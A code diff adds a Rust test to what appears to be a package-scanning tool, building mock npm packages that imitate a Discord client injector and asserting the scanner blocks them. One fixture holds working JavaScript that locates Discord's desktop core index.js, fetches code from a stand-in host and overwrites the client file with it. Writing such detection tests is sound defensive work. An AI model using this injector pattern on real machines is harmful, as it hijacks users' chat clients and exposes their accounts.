@@ -741,6 +741,50 @@ fn a_discord_stealer_across_files_is_traced() {
     );
 }
 
+/// A client injector: code fetched from a host overwrites the Discord client's own
+/// `discord_desktop_core/index.js`, found through a glob and kept in a list.
+#[test]
+fn a_discord_client_injector_is_stopped() {
+    let injector = airlock_test::PackageBuilder::new("discord-injector-shape", "1.0.0")
+        .file(
+            "index.js",
+            r#"const fs = require("fs");
+const glob = require("glob");
+const https = require("https");
+const targets = [];
+const pattern = process.env.LOCALAPPDATA + "\\Discord\\app-*\\modules\\discord_desktop_core-*\\discord_desktop_core\\index.js";
+glob.sync(pattern).map((file) => { targets.push(file); });
+https.get("https://payload.injector-shape.example/injection.js", (response) => {
+  let code = "";
+  response.on("data", (chunk) => { code += chunk; });
+  response.on("end", () => { targets.forEach((file) => fs.writeFileSync(file, code)); });
+});
+"#,
+        )
+        .build();
+    let analysis = analyse(&injector);
+    assert!(
+        !matches!(
+            verdict(&analysis, &injector),
+            Verdict::Allow | Verdict::Warn
+        ),
+        "{}",
+        report(&analysis)
+    );
+    let direct = airlock_test::PackageBuilder::new("discord-injector-direct-shape", "1.0.0")
+        .file(
+            "index.js",
+            "require('fs').writeFileSync(process.env.LOCALAPPDATA + '/Discord/app-1.0.9/modules/discord_desktop_core-1/discord_desktop_core/index.js', 'module.exports = require(\"./core.asar\");');\n",
+        )
+        .build();
+    let analysis = check_blocked(&direct, &[Code::SensitiveFileAccess]);
+    assert!(
+        report(&analysis).contains("Discord"),
+        "{}",
+        report(&analysis)
+    );
+}
+
 #[test]
 fn established_capabilities_weigh_less_and_new_ones_more() {
     // The same telemetry in two versions is the package's ordinary behaviour.
